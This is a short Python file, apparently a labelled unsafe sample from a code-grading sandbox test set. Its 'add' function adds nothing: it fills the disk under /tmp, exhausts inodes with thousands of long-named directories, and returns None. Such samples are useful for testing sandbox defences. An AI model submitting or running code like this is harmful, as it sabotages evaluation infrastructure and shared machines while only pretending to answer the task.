# problem: add
# verdict: wrong_answer | timed_out
# why: No space, no inode left, and folders that have to be moved before they can be removed.
# unsafe: true
import os


def add(a, b):
    try:
        os.makedirs("/tmp/" + "/".join(str(n) for n in range(200)))
        with open("/tmp/full", "wb", buffering=0) as handle:
            while handle.write(b"\x01" * 65536):
                pass
    except OSError:
        pass
    try:
        for n in range(4_000):
            os.mkdir(f"/tmp/{n}x")
            os.mkdir(f"/tmp/{n}x/" + "n" * 255)
    except OSError:
        pass
    return None
